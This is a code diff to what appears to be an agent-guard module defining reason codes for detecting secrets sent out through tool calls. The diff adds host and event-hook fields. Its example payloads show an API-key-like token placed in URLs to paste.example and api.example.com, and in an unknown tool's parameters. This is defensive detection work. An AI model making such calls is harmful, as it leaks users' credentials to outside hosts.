@@ -30,6 +30,8 @@ TO_UNLISTED: Final = ReasonCode(
         '"params":{"url":"https://paste.example/?k=sk-abcdefghijklmnopqrstuvwx"}}'
     ),
     masks=True,
+    about="host",
+    on=("ToolCallPre", "SkillRunPre"),
 )
 OUTBOUND: Final = ReasonCode(
     id="exfil.secret_outbound",
@@ -42,6 +44,8 @@ OUTBOUND: Final = ReasonCode(
         '"params":{"url":"https://api.example.com/?k=sk-abcdefghijklmnopqrstuvwx"}}'
     ),
     masks=True,
+    about="host",
+    on=("ToolCallPre", "SkillRunPre"),
 )
 
 TO_UNKNOWN: Final = ReasonCode(
@@ -52,6 +56,8 @@ TO_UNKNOWN: Final = ReasonCode(
     instead="Leave the secret out, or use a tool that is known to keep it on this machine.",
     example='{"type":"ToolCallPre","tool":"frobnicate","params":{"text":"sk-abcdefghijklmnopqrstuvwx"}}',
     masks=True,
+    about="host",
+    on=("ToolCallPre", "SkillRunPre"),
 )
 
 
